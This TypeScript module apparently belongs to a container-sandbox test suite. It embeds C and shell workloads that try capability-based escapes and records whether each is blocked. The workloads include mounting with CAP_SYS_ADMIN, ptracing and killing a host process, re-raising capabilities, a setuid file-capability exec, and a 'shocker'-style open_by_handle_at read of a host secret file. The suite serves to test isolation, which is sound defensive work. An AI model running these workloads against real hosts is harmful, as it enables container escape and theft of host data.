/**
 * Capabilities: using one the default config drops (CAP_SYS_ADMIN, CAP_NET_RAW, CAP_SYS_PTRACE,
 * CAP_DAC_READ_SEARCH), getting one back (capset, ambient, a setuid binary with file
 * capabilities), or using one it keeps (CAP_KILL) on something outside the container. Host
 * processes are judged from the host (the sleeper still lives, no tracer ever showed in its
 * /proc/PID/status); a privileged call that succeeds is judged by the kernel that answered: the
 * host's means the capability was not dropped, a microVM guest's (another boot id) is no escape.
 */
import { execFileSync, spawn } from 'node:child_process';
import type { ChildProcess } from 'node:child_process';
import { chmodSync, copyFileSync, mkdirSync, readFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { blocked, compileStatic, escaped, excerpt, leaksSecret, ranToEnd, report, trialError } from '../framework.js';
import type { Attempt, RunOutput, Trial, Verdict } from '../framework.js';
import { C_PRELUDE, onHostKernel, setEnv, whichKernel } from './device.js';

const BOOT = 'echo BOOT=$(cat /proc/sys/kernel/random/boot_id 2>/dev/null)';

/** CAP_SYS_ADMIN's bit. */
const SYS_ADMIN = 21n;

/** Whether a hex capability mask (as /proc/PID/status prints it) holds CAP_SYS_ADMIN. */
function hasSysAdmin(mask: string | undefined): boolean {
  if (!mask || !/^[0-9a-f]+$/i.test(mask)) return false;
  return ((BigInt(`0x${mask}`) >> SYS_ADMIN) & 1n) === 1n;
}

/** A judge for "a privileged call": escaped only if one of `keys` succeeded on the host's kernel. */
function judgeOnHost(what: string, keys: string[], why: (r: Map<string, string>) => string) {
  return (t: Trial, out: RunOutput): Verdict => {
    const r = report(out);
    if (leaksSecret(t, out)) return escaped(`${what}: the host secret came out`);
    if (!ranToEnd(out)) return trialError(`the workload did not finish: ${excerpt(out)}`);
    const ok = keys.filter((k) => r.get(k) === '1');
    if (ok.length && onHostKernel(t, r.get('BOOT'))) return escaped(`${what} on the host kernel (${ok.join(', ')})`);
    if (ok.length) return blocked(`${ok.join(', ')} only in ${whichKernel(t, r.get('BOOT'))}`);
    return blocked(why(r));
  };
}

/** A host process an attempt goes for (spawned in setup, killed by the judge). */
let sleeper: ChildProcess | undefined;

/** Starts the host sleeper and tells the workload its pid. */
function startSleeper(t: Trial): void {
  sleeper = spawn('sleep', ['300'], { stdio: 'ignore' });
  if (!sleeper.pid) throw new Error('cannot start the host sleeper');
  setEnv(t, 'HOST_PID', sleeper.pid);
}

/** The sleeper's /proc/PID/status fields, or undefined once it is gone. */
function sleeperStatus(): Map<string, string> | undefined {
  if (!sleeper?.pid) return undefined;
  try {
    const m = new Map<string, string>();
    for (const line of readFileSync(`/proc/${sleeper.pid}/status`, 'utf8').split('\n')) {
      const i = line.indexOf(':');
      if (i > 0) m.set(line.slice(0, i), line.slice(i + 1).trim());
    }
    return m;
  } catch {
    return undefined;
  }
}

/** Whether the sleeper was killed (gone, a zombie, or reported exited), then kills it for good. */
function sleeperDied(): boolean {
  const st = sleeperStatus();
  const dead = !st || (st.get('State') ?? '').startsWith('Z') || sleeper?.exitCode !== null || sleeper?.signalCode !== null;
  sleeper?.kill('SIGKILL');
  sleeper = undefined;
  return dead;
}

/** What the host saw of the sleeper while the workload ran (ptrace attempt). */
let traced: { tracer: string; state: string } | undefined;

/** The attempts of this category. */
export const attempts: Attempt[] = [
  {
    id: 'cap-sys-admin-mount',
    category: 'capability',
    title: 'uses CAP_SYS_ADMIN: mounts a tmpfs',
    shows: 'CAP_SYS_ADMIN is not in the container\'s sets: mount is refused',
    sh: `${BOOT}; mkdir -p /dev/m
if out=$(mount -t tmpfs -o size=1m none /dev/m 2>&1); then echo MOUNTED=1; umount /dev/m; else echo MOUNTED=0; echo "ERR=$out"; fi
echo DONE=1`,
    judge: judgeOnHost('mounted a tmpfs (CAP_SYS_ADMIN kept)', ['MOUNTED'], (r) => `mount refused: ${r.get('ERR') ?? '?'}`),
  },
  {
    id: 'cap-net-raw',
    category: 'capability',
    title: 'uses CAP_NET_RAW: opens raw IP and packet sockets (spoofing, sniffing)',
    shows: 'CAP_NET_RAW is dropped: raw and packet sockets are refused',
    c: `${C_PRELUDE}
#include <sys/socket.h>
#include <netinet/in.h>
int main(void) {
  alarm(20);
  setvbuf(stdout, NULL, _IONBF, 0);
  boot();
  int s = socket(AF_INET, SOCK_RAW, IPPROTO_ICMP);
  if (s >= 0) { printf("RAW=1\\n"); close(s); } else err("RAW_ERR");
  s = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
  if (s >= 0) { printf("RAW_IP=1\\n"); close(s); } else err("RAW_IP_ERR");
  s = socket(AF_PACKET, SOCK_RAW, htons(0x0003 /* ETH_P_ALL */));
  if (s >= 0) { printf("PACKET=1\\n"); close(s); } else err("PACKET_ERR");
  printf("DONE=1\\n");
  return 0;
}
`,
    judge: judgeOnHost('opened a raw socket', ['RAW', 'RAW_IP', 'PACKET'], (r) => `raw: ${r.get('RAW_ERR') ?? '?'}; packet: ${r.get('PACKET_ERR') ?? '?'}`),
  },
  {
    id: 'cap-ptrace-host',
    category: 'capability',
    title: 'ptraces a host process (PTRACE_ATTACH, then PTRACE_SEIZE) whose host pid it was told',
    shows: 'the host process never had a tracer: ptrace is refused and the pid is not in the container\'s pid namespace',
    c: `${C_PRELUDE}
#include <sys/ptrace.h>
int main(void) {
  alarm(20);
  setvbuf(stdout, NULL, _IONBF, 0);
  boot();
  pid_t pid = atoi(env("HOST_PID"));
  printf("TARGET=%d\\n", pid);
  if (ptrace(PTRACE_ATTACH, pid, 0, 0) == 0) {
    printf("ATTACHED=1\\n");
    usleep(1500000);
    ptrace(PTRACE_DETACH, pid, 0, 0);
  } else err("ATTACH_ERR");
  if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) {
    printf("SEIZED=1\\n");
    usleep(1500000);
    ptrace(PTRACE_DETACH, pid, 0, 0);
  } else err("SEIZE_ERR");
  printf("DONE=1\\n");
  return 0;
}
`,
    setup: (t) => {
      traced = undefined;
      startSleeper(t);
    },
    during: async (_t, running) => {
      let done = false;
      void running.then(() => (done = true), () => (done = true));
      while (!done) {
        const st = sleeperStatus();
        const tracer = st?.get('TracerPid') ?? '0';
        const state = st?.get('State') ?? '';
        if (tracer !== '0' || /^[tT]/.test(state)) traced = { tracer, state };
        await new Promise((r) => setTimeout(r, 20));
      }
    },
    judge: (_t, out) => {
      const died = sleeperDied();
      const seen = traced;
      traced = undefined;
      if (seen) return escaped(`the host process was traced or stopped (TracerPid ${seen.tracer}, State ${seen.state})`);
      if (died) return escaped('the host process died during the run');
      if (!ranToEnd(out)) return trialError(`the workload did not finish: ${excerpt(out)}`);
      const r = report(out);
      if (r.get('ATTACHED') === '1' || r.get('SEIZED') === '1') return blocked('attached only to a process of its own with the same pid number; the host process never had a tracer');
      return blocked(`attach: ${r.get('ATTACH_ERR') ?? '?'}; seize: ${r.get('SEIZE_ERR') ?? '?'}`);
    },
  },
  {
    id: 'cap-kill-host',
    category: 'capability',
    title: 'uses CAP_KILL on a host process: kill(2) and pidfd_send_signal with the host pid it was told',
    shows: 'the host process lives on: the container\'s pid namespace does not hold it',
    c: `${C_PRELUDE}
int main(void) {
  alarm(20);
  setvbuf(stdout, NULL, _IONBF, 0);
  boot();
  pid_t pid = atoi(env("HOST_PID"));
  printf("TARGET=%d\\n", pid);
  if (kill(pid, SIGKILL) == 0) printf("KILLED=1\\n"); else err("KILL_ERR");
  int fd = syscall(SYS_pidfd_open, pid, 0);
  if (fd >= 0) {
    printf("PIDFD=1\\n");
    if (syscall(SYS_pidfd_send_signal, fd, SIGKILL, NULL, 0) == 0) printf("PIDFD_KILLED=1\\n"); else err("PIDFD_SIGNAL_ERR");
    close(fd);
  } else err("PIDFD_ERR");
  printf("DONE=1\\n");
  return 0;
}
`,
    setup: startSleeper,
    judge: (_t, out) => {
      if (sleeperDied()) return escaped('the host process was killed');
      if (!ranToEnd(out)) return trialError(`the workload did not finish: ${excerpt(out)}`);
      const r = report(out);
      if (r.get('KILLED') === '1') return blocked('the signal went to a process of its own with the same pid number; the host process lives');
      return blocked(`the host process lives: kill ${r.get('KILL_ERR') ?? '?'}; pidfd_open ${r.get('PIDFD_ERR') ?? 'worked'}`);
    },
  },
  {
    id: 'cap-capset-raise',
    category: 'capability',
    title: 'raises CAP_SYS_ADMIN back: capset into effective/permitted/inheritable, an ambient raise, then a re-exec that mounts',
    shows: 'capabilities outside the bounding set cannot be regained: capset and the ambient raise are refused',
    c: `${C_PRELUDE}
#include <linux/capability.h>
static void caps(const char *key) {
  struct __user_cap_header_struct h = {_LINUX_CAPABILITY_VERSION_3, 0};
  struct __user_cap_data_struct d[2];
  if (syscall(SYS_capget, &h, d) == 0) printf("%s=%08x%08x\\n", key, d[1].effective, d[0].effective);
}
int main(int argc, char **argv) {
  alarm(20);
  setvbuf(stdout, NULL, _IONBF, 0);
  if (argc > 1) { /* the re-exec: what did it get? */
    caps("CHILD_CAPEFF");
    mkdir("/dev/capm", 0755);
    if (mount("none", "/dev/capm", "tmpfs", 0, "size=1m") == 0) { printf("CHILD_MOUNT=1\\n"); umount("/dev/capm"); } else err("CHILD_MOUNT_ERR");
    return 0;
  }
  boot();
  caps("CAPEFF_BEFORE");
  struct __user_cap_header_struct h = {_LINUX_CAPABILITY_VERSION_3, 0};
  struct __user_cap_data_struct d[2];
  if (syscall(SYS_capget, &h, d) != 0) err("CAPGET_ERR");
  d[0].effective |= 1u << 21; d[0].permitted |= 1u << 21; d[0].inheritable |= 1u << 21;
  if (syscall(SYS_capset, &h, d) == 0) printf("CAPSET=1\\n"); else err("CAPSET_ERR");
  d[0].effective &= ~(1u << 21); d[0].permitted &= ~(1u << 21);
  if (syscall(SYS_capset, &h, d) == 0) printf("CAPSET_INH=1\\n"); else err("CAPSET_INH_ERR");
  if (prctl(PR_CAP_AMBIENT, PR_CAP_AMBIENT_RAISE, 21, 0, 0) == 0) printf("AMBIENT=1\\n"); else err("AMBIENT_ERR");
  printf("BSET_SYS_ADMIN=%d\\n", prctl(PR_CAPBSET_READ, 21, 0, 0, 0));
  caps("CAPEFF_AFTER");
  pid_t p = fork();
  if (p == 0) { execl("/attempt", "/attempt", "child", (char *)NULL); _exit(127); }
  int st;
  waitpid(p, &st, 0);
  printf("DONE=1\\n");
  return 0;
}
`,
    judge: (t, out) => {
      const r = report(out);
      if (!ranToEnd(out)) return trialError(`the workload did not finish: ${excerpt(out)}`);
      const got = [
        ...(hasSysAdmin(r.get('CAPEFF_AFTER')) ? ['CAP_SYS_ADMIN in the effective set'] : []),
        ...(hasSysAdmin(r.get('CHILD_CAPEFF')) ? ['CAP_SYS_ADMIN after exec'] : []),
        ...(r.get('CHILD_MOUNT') === '1' ? ['a mount after exec'] : []),
        ...(r.get('AMBIENT') === '1' ? ['an ambient CAP_SYS_ADMIN'] : []),
      ];
      if (got.length && onHostKernel(t, r.get('BOOT'))) return escaped(`regained ${got.join(', ')} on the host kernel`);
      if (got.length) return blocked(`regained ${got.join(', ')} only in ${whichKernel(t, r.get('BOOT'))}`);
      return blocked(`capset: ${r.get('CAPSET_ERR') ?? '?'}; ambient: ${r.get('AMBIENT_ERR') ?? '?'}; bounding has CAP_SYS_ADMIN: ${r.get('BSET_SYS_ADMIN') ?? '?'}`);
    },
  },
  {
    id: 'cap-setuid-file-caps',
    category: 'capability',
    title: 'runs as uid 1000 and execs a setuid-root binary carrying file capabilities (cap_sys_admin,cap_kill+p) from a volume',
    shows: 'no_new_privs holds: the exec gains neither euid 0 nor any capability',
    notApplicable: { 'moat-microvm': 'a microVM takes no host bind mounts (volumes are not mounted there)' },
    c: `${C_PRELUDE}
int main(int argc, char **argv) {
  alarm(20);
  setvbuf(stdout, NULL, _IONBF, 0);
  if (argc > 1) { /* the setuid copy: what did the exec give? */
    printf("CHILD_UID=%d\\nCHILD_EUID=%d\\n", getuid(), geteuid());
    FILE *f = fopen("/proc/self/status", "r");
    char line[256];
    char mask[64];
    while (f && fgets(line, sizeof line, f)) {
      if (sscanf(line, "CapEff: %63s", mask) == 1) printf("CHILD_CAPEFF=%s\\n", mask);
      if (sscanf(line, "CapPrm: %63s", mask) == 1) printf("CHILD_CAPPRM=%s\\n", mask);
    }
    if (f) fclose(f);
    mkdir("/dev/capm", 0755);
    if (mount("none", "/dev/capm", "tmpfs", 0, "size=1m") == 0) { printf("CHILD_MOUNT=1\\n"); umount("/dev/capm"); } else err("CHILD_MOUNT_ERR");
    return 0;
  }
  boot();
  printf("UID=%d\\nEUID=%d\\n", getuid(), geteuid());
  struct stat st;
  if (stat("/vol/raise", &st) == 0) printf("MODE=%o\\n", st.st_mode & 07777); else err("STAT_ERR");
  pid_t p = fork();
  if (p == 0) { execl("/vol/raise", "/vol/raise", "child", (char *)NULL); printf("EXEC_ERR=%s\\n", strerror(errno)); _exit(127); }
  int ws;
  waitpid(p, &ws, 0);
  printf("DONE=1\\n");
  return 0;
}
`,
    setup: (t) => {
      t.spec['process'].user = { uid: 1000, gid: 1000 };
      const vol = join(t.hostDir, 'vol');
      mkdirSync(vol, { recursive: true, mode: 0o755 });
      chmodSync(vol, 0o755);
      // the attempt's own program (compileStatic caches it by source, so this is the very binary run as /attempt)
      const attempt = attempts.find((a) => a.id === 'cap-setuid-file-caps');
      const bin = compileStatic(attempt?.c ?? '', join(dirname(t.hostDir), 'bin'));
      const raise = join(vol, 'raise');
      copyFileSync(bin, raise);
      chmodSync(raise, 0o4755);
      // permitted only, no effective bit: with one, an exec whose bounding set lacks a file capability fails
      // outright (EPERM, the kernel's check for capability-dumb binaries), which would hide what no_new_privs does
      execFileSync('setcap', ['cap_sys_admin,cap_kill+p', raise], { stdio: 'ignore' });
      t.addVolume(vol, '/vol', true);
    },
    judge: (t, out) => {
      const r = report(out);
      if (!ranToEnd(out)) return trialError(`the workload did not finish: ${excerpt(out)}`);
      if (r.get('UID') !== '1000') return trialError(`the workload did not run as uid 1000 (uid ${r.get('UID') ?? '?'})`);
      if (r.get('EXEC_ERR')) return blocked(`the setuid binary could not be run: ${r.get('EXEC_ERR')}`);
      if (!r.has('CHILD_EUID')) return trialError(`the setuid copy did not report: ${excerpt(out)}`);
      const mask = (k: string): bigint => (/^[0-9a-f]+$/i.test(r.get(k) ?? '') ? BigInt(`0x${r.get(k)}`) : 0n);
      const gained = [
        ...(r.get('CHILD_EUID') === '0' ? ['euid 0'] : []),
        ...(mask('CHILD_CAPEFF') !== 0n || mask('CHILD_CAPPRM') !== 0n ? [`capabilities (permitted ${r.get('CHILD_CAPPRM')}, effective ${r.get('CHILD_CAPEFF')})`] : []),
        ...(r.get('CHILD_MOUNT') === '1' ? ['a mount'] : []),
      ];
      if (gained.length && onHostKernel(t, r.get('BOOT'))) return escaped(`the setuid exec gave ${gained.join(', ')} despite no_new_privs`);
      if (gained.length) return blocked(`the exec gave ${gained.join(', ')} only in ${whichKernel(t, r.get('BOOT'))}`);
      return blocked(`the exec kept euid ${r.get('CHILD_EUID')} and no capabilities (mode ${r.get('MODE') ?? '?'})`);
    },
  },
  {
    id: 'cap-open-by-handle',
    category: 'capability',
    title: 'uses CAP_DAC_READ_SEARCH as "shocker" did: open_by_handle_at with a guessed handle (inode 2, the filesystem\'s root)',
    shows: 'open_by_handle_at is refused: the filesystem under the container\'s root cannot be opened by handle',
    c: `${C_PRELUDE}
int main(void) {
  alarm(20);
  setvbuf(stdout, NULL, _IONBF, 0);
  boot();
  struct file_handle *fh = malloc(sizeof(struct file_handle) + 128);
  int mountId;
  fh->handle_bytes = 128;
  if (name_to_handle_at(AT_FDCWD, "/", fh, &mountId, 0) == 0) printf("N2H=1\\nN2H_TYPE=%d\\n", fh->handle_type); else err("N2H_ERR");
  /* FILEID_INO32_GEN: inode 2 (an ext* root), generation 0 */
  fh->handle_bytes = 8;
  fh->handle_type = 1;
  uint32_t ino[2] = {2, 0};
  memcpy(fh->f_handle, ino, 8);
  int mfd = open("/", O_RDONLY | O_DIRECTORY);
  int fd = open_by_handle_at(mfd, fh, O_RDONLY | O_DIRECTORY);
  if (fd >= 0) {
    printf("OPENED=1\\n");
    DIR *d = fdopendir(dup(fd));
    struct dirent *e;
    int n = 0;
    while (d && (e = readdir(d)) && n < 30) { printf("ENTRY=%s\\n", e->d_name); n++; }
    /* the secret, relative to that root: try every suffix of its host path */
    const char *p = env("SECRET_PATH");
    for (const char *s = p; s && *s; s = strchr(s + 1, '/')) {
      int f = openat(fd, s + 1, O_RDONLY);
      if (f >= 0) {
        char b[256];
        ssize_t k = read(f, b, sizeof b - 1);
        if (k > 0) { b[k] = 0; printf("READ=%s", b); }
        close(f);
        break;
      }
    }
  } else err("OPEN_ERR");
  printf("DONE=1\\n");
  return 0;
}
`,
    setup: (t) => setEnv(t, 'SECRET_PATH', t.secretFile),
    judge: judgeOnHost('opened the filesystem\'s root by handle', ['OPENED'], (r) => `open_by_handle_at: ${r.get('OPEN_ERR') ?? '?'}; name_to_handle_at: ${r.get('N2H_ERR') ?? 'worked'}`),
  },
];
